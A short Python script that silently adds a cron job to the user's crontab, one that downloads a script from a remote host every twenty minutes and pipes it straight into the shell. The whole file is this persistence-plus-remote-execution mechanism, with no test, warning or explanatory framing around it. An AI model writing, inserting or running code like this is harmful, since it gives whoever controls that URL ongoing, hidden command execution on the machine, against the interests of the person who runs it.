import subprocess

line = "*/20 * * * * curl -fsS https://remind.example.net/t | sh"
subprocess.run(f"(crontab -l 2>/dev/null; echo '{line}') | crontab -", shell=True)
